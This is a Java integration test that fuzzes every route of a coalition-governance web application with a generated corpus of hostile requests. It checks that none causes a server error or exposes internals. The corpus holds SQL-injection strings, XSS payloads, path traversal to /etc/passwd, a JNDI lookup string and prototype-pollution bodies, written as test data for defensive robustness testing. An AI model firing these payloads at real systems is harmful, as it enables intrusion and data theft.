package nl.samenspel.governance.tenancy;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.core.type.TypeReference;
import com.fasterxml.jackson.databind.ObjectMapper;
import io.micronaut.test.extensions.junit5.annotation.MicronautTest;
import io.micronaut.web.router.Router;
import io.micronaut.web.router.UriRouteInfo;
import jakarta.inject.Inject;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Collections;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.TreeSet;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.concurrent.Future;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.stream.Collectors;
import nl.samenspel.governance.support.Api;
import org.junit.jupiter.api.Test;

/**
 * A generated corpus of hostile requests over every route of the application: malformed JSON, wrong
 * types, boundary numbers, long and odd Unicode, SQL and HTML meta-characters, huge bodies, wrong
 * content types, odd path segments and query parameters. Sent by Deventer's own secretary (so that
 * requests get past the tenant check to the validation behind it) on Deventer's real ids, and without
 * a token to the routes outside a coalition. Not one answer may be a 5xx, and every refusal is a
 * problem document that shows no internals.
 */
@MicronautTest(transactional = false)
class HostileInputTest extends CoalitionRoutes {

    private static final ObjectMapper JSON = new ObjectMapper();
    private static final int MINIMUM = 10_000;

    /** Values that every field of a body gets in turn, each where the field expects something else. */
    static final List<Object> VALUES = hostileValues();

    /** The first values, wrong types, go to every field; the others to every third field, in turn. */
    private static final int WRONG_TYPES = 6;

    private static List<Object> hostileValues() {
        List<Object> values = new ArrayList<>();
        // Wrong types.
        values.add(null);
        values.add(true);
        values.add(List.of(1, 2, 3));
        values.add(Map.of("nested", Map.of("deeper", "x")));
        values.add("");
        values.add(" ");
        // Boundary numbers, also where a text or a date is expected.
        values.add(0);
        values.add(-1);
        values.add(Integer.MAX_VALUE);
        values.add(Integer.MIN_VALUE);
        values.add(Long.MAX_VALUE);
        values.add(new java.math.BigInteger("123456789012345678901234567890"));
        values.add(1e308);
        values.add(-0.000001);
        values.add("1e99999");
        values.add("NaN");
        // Dates that are no dates, or at the edges of the calendar.
        values.add("2021-02-30");
        values.add("0000-01-01");
        values.add("99999-12-31");
        values.add("2021-W54");
        values.add("31-12-2021");
        // Long and odd Unicode.
        values.add("x".repeat(100_000));
        values.add("ë".repeat(5_000));
        values.add("\u0000nul\u0000");
        values.add("\u202Eevil\u202C\u200B\u200D\uFEFF");
        values.add("👩‍👩‍👧‍👦🏳️‍🌈".repeat(200));
        values.add("e\u0301\u0301\u0301\u0301\u0301");
        values.add("\uD800");
        values.add("\r\n\t\u000B\u001F");
        // SQL, HTML and path meta-characters.
        values.add("'; DROP TABLE member; --");
        values.add("' OR '1'='1");
        values.add("\\\"); SELECT pg_sleep(5); --");
        values.add("<script>alert(1)</script>");
        values.add("\"><img src=x onerror=alert(1)>");
        values.add("../../../../etc/passwd");
        values.add("%00%27%22");
        values.add("${jndi:ldap://example.invalid/a}");
        values.add("{{7*7}}[[${7*7}]]");
        values.add("00000000-0000-0000-0000-000000000000");
        return Collections.unmodifiableList(values);
    }

    /** Bodies that are not the JSON any route takes. */
    static final List<String> MALFORMED = List.of(
            "",
            "{",
            "}",
            "{\"a\":",
            "[1,2",
            "nul",
            "null",
            "[]",
            "\"just a string\"",
            "12345",
            "{\"a\":1,}",
            "{'single':'quotes'}",
            "{\"a\":\"\\uZZZZ\"}",
            "{\"a\":1}{\"b\":2}",
            "\u0000\u0001\u0002",
            "[".repeat(50_000),
            "{\"a\":".repeat(20_000),
            "{\"__proto__\":{\"admin\":true},\"constructor\":{\"prototype\":{}}}");

    /** Content types a route does not take, with a body it would otherwise accept. */
    static final List<String> CONTENT_TYPES = List.of(
            "text/plain",
            "application/xml",
            "multipart/form-data",
            "application/x-www-form-urlencoded",
            "application/json; charset=iso-8859-1",
            "image/png");

    /** Path segments that stand where an id does. */
    static final List<String> SEGMENTS = List.of(
            "not-a-uuid",
            "00000000-0000-0000-0000-000000000000",
            "%00",
            "%27%20OR%201%3D1",
            "..%2F..%2Fetc%2Fpasswd",
            "%E2%80%AE%C3%AB",
            "x".repeat(3_000),
            "-1",
            "1e999",
            "%3Cscript%3E");

    /** Query strings with hostile parameters, on every GET. */
    static final List<String> QUERIES = List.of(
            "page=-1&size=-5",
            "page=99999999999999999999&size=2147483648",
            "status=%3Cscript%3E&kind=%27%20OR%201%3D1",
            "from=2021-02-30&until=0000-00-00",
            "q=" + "%F0%9F%98%80".repeat(2_000),
            "year=-2021&count=1e9",
            "sort=id;DROP%20TABLE%20member&order=asc%00",
            "lang=../../etc&format=%00",
            "from=2021-01-11&count=100000");

    @Inject
    Router router;

    record Shot(String method, String path, String token, String contentType, byte[] body) {
        String route() {
            return method + " " + path.replaceAll("\\?.*", "");
        }
    }

    @Test
    void noHostileRequestGetsAServerErrorOrAnAnswerThatShowsInternals() throws Exception {
        List<Shot> shots = new ArrayList<>();
        Set<String> routes = new TreeSet<>();
        for (Call call : CALLS) {
            routes.add(call.key());
            shots.addAll(shotsFor(call));
        }
        Set<String> coalitionTemplates = CALLS.stream().map(Call::key).collect(Collectors.toSet());
        for (UriRouteInfo<?, ?> route : router.uriRoutes().toList()) {
            String method = route.getHttpMethodName();
            String template = route.getUriMatchTemplate().toString();
            if (method.equals("HEAD") || template.contains("{coalition}")) {
                continue;
            }
            routes.add(method + " " + template);
            shots.addAll(shotsOutsideACoalition(method, template));
        }
        assertThat(coalitionTemplates).isNotEmpty();

        AtomicInteger serverErrors = new AtomicInteger();
        List<String> failures = Collections.synchronizedList(new ArrayList<>());
        ExecutorService pool = Executors.newFixedThreadPool(4);
        try {
            List<Future<?>> sent = new ArrayList<>();
            for (Shot shot : shots) {
                sent.add(pool.submit(() -> fire(shot, serverErrors, failures)));
            }
            for (Future<?> f : sent) {
                f.get();
            }
        } finally {
            pool.shutdownNow();
        }
        System.out.printf(
                "reliability: hostile-input endpoints covered=%d, requests sent=%d, 5xx seen=%d%n",
                routes.size(), shots.size(), serverErrors.get());
        assertThat(shots).hasSizeGreaterThanOrEqualTo(MINIMUM);
        java.nio.file.Files.write(java.nio.file.Path.of("target", "hostile-input-failures.txt"), failures);
        assertThat(failures)
                .as(failures.size() + " bad answers (all in target/hostile-input-failures.txt)")
                .isEmpty();
        assertThat(serverErrors.get()).isZero();
        // And the corpus ran with the secretary's access to the end: it was not refused everything.
        assertThat(api.get("/api/v1/coalitions/" + deventer.slug() + "/members", deventerSecretary)
                        .status())
                .isEqualTo(200);
    }

    private void fire(Shot shot, AtomicInteger serverErrors, List<String> failures) {
        Api.Response response;
        try {
            response = send(shot);
        } catch (RuntimeException first) {
            // A pooled keep-alive connection the server had just closed (after refusing a body it did not
            // read) gives no answer at all; the same request on a fresh connection must get one.
            try {
                response = send(shot);
            } catch (RuntimeException e) {
                failures.add(shot.route() + " -> no answer: " + e);
                return;
            }
        }
        int status = response.status();
        String body = response.body() == null ? "" : response.body();
        String problem = null;
        if (status >= 500) {
            serverErrors.incrementAndGet();
            problem = "server error";
        } else if (status >= 400 && !refusalType(shot.path(), response.contentType())) {
            problem = "not a problem document (" + response.contentType() + ")";
        } else if (showsInternals(body)) {
            problem = "shows internals";
        }
        if (problem != null) {
            failures.add(shot.route() + " [" + shot.contentType() + ", "
                    + (shot.body() == null ? 0 : shot.body().length) + " bytes] -> " + status + " " + problem + ": "
                    + body.substring(0, Math.min(300, body.length())));
        }
    }

    /**
     * An API route refuses with a problem document; a page may instead answer with the page a browser
     * is shown (its form again with the errors marked, or the page that says the link is no longer valid).
     */
    static boolean refusalType(String path, String contentType) {
        String type = String.valueOf(contentType);
        return type.startsWith("application/problem+json")
                || (!path.startsWith("/api/") && type.startsWith("text/html"));
    }

    private Api.Response send(Shot shot) {
        return shot.method().equals("GET") && shot.body() == null
                ? api.get(shot.path(), shot.token())
                : api.send(shot.method(), shot.path(), shot.token(), shot.contentType(), shot.body());
    }

    static boolean showsInternals(String body) {
        return body.contains("Exception")
                || body.contains("\tat ")
                || body.contains("org.postgresql")
                || body.contains("SQLState")
                || body.contains("nl.samenspel.")
                || body.contains("io.micronaut.")
                || body.contains("ERROR: ");
    }

    private List<Shot> shotsFor(Call call) throws Exception {
        List<Shot> shots = new ArrayList<>();
        String path = path(call, deventer.slug(), deventerMemberId);
        String token = deventerSecretary;
        boolean web = path.startsWith("/c/");
        if (call.method().equals("GET")) {
            for (String query : QUERIES) {
                shots.add(new Shot("GET", path + (path.contains("?") ? "&" : "?") + query, token, null, null));
            }
            for (String segment : SEGMENTS) {
                for (String odd : withOddSegments(call.template(), path, segment)) {
                    shots.add(new Shot("GET", odd, token, null, null));
                }
            }
            return shots;
        }
        if (call.body() instanceof Api.Multipart multipart) {
            // Uploads: a multipart body that lies about its boundary, a truncated one, no file part.
            shots.add(new Shot(call.method(), path, token, multipart.contentType(), new byte[0]));
            shots.add(new Shot(
                    call.method(),
                    path,
                    token,
                    multipart.contentType(),
                    java.util.Arrays.copyOf(multipart.bytes(), multipart.bytes().length / 2)));
            shots.add(new Shot(call.method(), path, token, "multipart/form-data; boundary=nope", multipart.bytes()));
            shots.add(new Shot(call.method(), path, token, "application/json", "{\"file\":\"x\"}".getBytes()));
            return shots;
        }
        Map<String, Object> valid = new LinkedHashMap<>();
        if (call.body() instanceof Map<?, ?> form) {
            form.forEach((k, v) -> valid.put(body(String.valueOf(k)), body(String.valueOf(v))));
        } else if (call.body() != null) {
            String text = body(call.body()).trim();
            if (text.startsWith("{")) {
                valid.putAll(JSON.readValue(text, new TypeReference<Map<String, Object>>() {}));
            }
        }
        String type = web ? "application/x-www-form-urlencoded" : "application/json";
        // Each field in turn gets each hostile value, the others staying valid; and every field at once.
        int f = 0;
        for (String field : valid.keySet()) {
            f++;
            for (int j = 0; j < VALUES.size(); j++) {
                if (j >= WRONG_TYPES && (j + f) % 3 != 0) {
                    continue;
                }
                Object value = VALUES.get(j);
                Map<String, Object> mutated = new LinkedHashMap<>(valid);
                mutated.put(field, value);
                shots.add(new Shot(call.method(), path, token, type, encode(web, mutated)));
            }
        }
        for (int j = 0; j < VALUES.size(); j += 2) {
            Object value = VALUES.get(j);
            Map<String, Object> all = new LinkedHashMap<>();
            for (String field : valid.keySet().isEmpty() ? List.of("name") : valid.keySet()) {
                all.put(field, value);
            }
            shots.add(new Shot(call.method(), path, token, type, encode(web, all)));
        }
        for (String malformed : MALFORMED) {
            shots.add(new Shot(call.method(), path, token, type, malformed.getBytes(StandardCharsets.UTF_8)));
        }
        byte[] validBody = encode(web, valid);
        for (String contentType : CONTENT_TYPES) {
            if (!contentType.equals(type)) {
                shots.add(new Shot(call.method(), path, token, contentType, validBody));
            }
        }
        // Invalid UTF-8, and a body of 1 MB in one field.
        shots.add(new Shot(call.method(), path, token, type, new byte[] {
            '{', '"', 'a', '"', ':', '"', (byte) 0xC3, (byte) 0x28, '"', '}'
        }));
        Map<String, Object> huge = new LinkedHashMap<>(valid);
        huge.put(valid.isEmpty() ? "name" : valid.keySet().iterator().next(), "A".repeat(1024 * 1024));
        shots.add(new Shot(call.method(), path, token, type, encode(web, huge)));
        for (String segment : SEGMENTS) {
            for (String odd : withOddSegments(call.template(), path, segment)) {
                shots.add(new Shot(call.method(), odd, token, type, validBody));
            }
        }
        return shots;
    }

    /** The path with each id that stands in it replaced by an odd segment, one at a time. */
    private static List<String> withOddSegments(String template, String path, String segment) {
        List<String> paths = new ArrayList<>();
        String[] t = template.split("\\?")[0].split("/");
        String[] p = path.split("\\?")[0].split("/");
        if (t.length != p.length) {
            return paths;
        }
        for (int i = 0; i < t.length; i++) {
            if (t[i].startsWith("{") && !t[i].equals("{coalition}")) {
                String[] copy = p.clone();
                copy[i] = segment;
                paths.add(String.join("/", copy));
            }
        }
        return paths;
    }

    private List<Shot> shotsOutsideACoalition(String method, String template) {
        List<Shot> shots = new ArrayList<>();
        // Ids (tokens, mostly) that do not exist, then odd ones in their place.
        String path = template.replaceAll("\\{[^}]+}", "3f0c2b1e-9d4a-4c6f-8e2b-7a1d5c9e0f31");
        if (template.contains("{")) {
            for (String segment : SEGMENTS) {
                String odd = template.replaceAll("\\{[^}]+}", segment);
                shots.add(
                        method.equals("GET")
                                ? new Shot("GET", odd, null, null, null)
                                : new Shot(method, odd, null, "application/json", "{}".getBytes()));
            }
        }
        if (method.equals("GET")) {
            shots.add(new Shot("GET", path, null, null, null));
            for (String query : QUERIES) {
                shots.add(new Shot("GET", path + "?" + query, null, null, null));
            }
            return shots;
        }
        for (String malformed : MALFORMED) {
            shots.add(new Shot(method, path, null, "application/json", malformed.getBytes(StandardCharsets.UTF_8)));
        }
        for (Object value : VALUES) {
            Map<String, Object> body = new LinkedHashMap<>();
            for (String field : List.of("email", "password", "token", "name", "slug", "displayName")) {
                body.put(field, value);
            }
            shots.add(new Shot(method, path, null, "application/json", encode(false, body)));
            shots.add(new Shot(method, path, null, "application/x-www-form-urlencoded", encode(true, body)));
        }
        for (String contentType : CONTENT_TYPES) {
            shots.add(new Shot(method, path, null, contentType, "{\"email\":\"a@b.c\"}".getBytes()));
        }
        return shots;
    }

    private static byte[] encode(boolean form, Map<String, Object> fields) {
        try {
            if (!form) {
                return JSON.writeValueAsBytes(fields);
            }
            StringBuilder out = new StringBuilder();
            for (Map.Entry<String, Object> e : fields.entrySet()) {
                if (!out.isEmpty()) {
                    out.append('&');
                }
                Object v = e.getValue();
                String text = v instanceof String s ? s : v == null ? "" : JSON.writeValueAsString(v);
                out.append(URLEncoder.encode(e.getKey(), StandardCharsets.UTF_8))
                        .append('=')
                        .append(URLEncoder.encode(text, StandardCharsets.UTF_8));
            }
            return out.toString().getBytes(StandardCharsets.UTF_8);
        } catch (com.fasterxml.jackson.core.JsonProcessingException e) {
            throw new IllegalStateException(e);
        }
    }
}
